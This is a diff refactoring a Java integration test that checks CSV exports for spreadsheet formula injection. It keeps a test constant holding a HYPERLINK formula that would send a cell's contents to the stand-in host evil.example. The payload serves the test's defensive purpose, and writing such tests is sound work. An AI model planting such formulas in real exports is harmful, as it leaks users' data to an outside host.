@@ -8,24 +8,17 @@ import java.util.Set;
 
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
-import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 
+import az.asan.mektub.CampaignTestBase;
 import az.asan.mektub.IntegrationTest;
-import az.asan.mektub.TestCampaign;
-import az.asan.mektub.TestLetters;
+import az.asan.mektub.RemovesPeople;
 import az.asan.mektub.TestLetters.Spec;
 import az.asan.mektub.TestPeople;
-import az.asan.mektub.account.AccountManagement;
 import az.asan.mektub.account.Role;
 import az.asan.mektub.letter.LetterStatus;
 import az.asan.mektub.web.Visitor;
 import az.asan.mektub.web.Visitor.Page;
-
-import org.springframework.beans.factory.annotation.Autowired;
-import org.springframework.jdbc.core.simple.JdbcClient;
-import org.springframework.security.core.userdetails.UserDetailsService;
-import org.springframework.test.web.servlet.MockMvc;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -35,32 +28,10 @@ import static org.assertj.core.api.Assertions.assertThat;
  * no cell that a spreadsheet would run as a formula.
  */
 @IntegrationTest
-class ExportsIntegrationTest {
+@RemovesPeople("%@exports.test")
+class ExportsIntegrationTest extends CampaignTestBase {
 
 	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")";
-
-	@Autowired
-	MockMvc mvc;
-
-	@Autowired
-	JdbcClient jdbc;
-
-	@Autowired
-	UserDetailsService users;
-
-	@Autowired
-	AccountManagement accounts;
-
-	@TestCampaign
-	TestLetters testLetters;
-
-	@TestCampaign
-	long campaign;
-
-	@AfterEach
-	void dropTestCampaigns() {
-		TestPeople.remove(jdbc, "%@exports.test");
-	}
 
 	@Test
 	void theSeparatorAndTheDecimalMarkFollowTheLanguageOfThePage() {
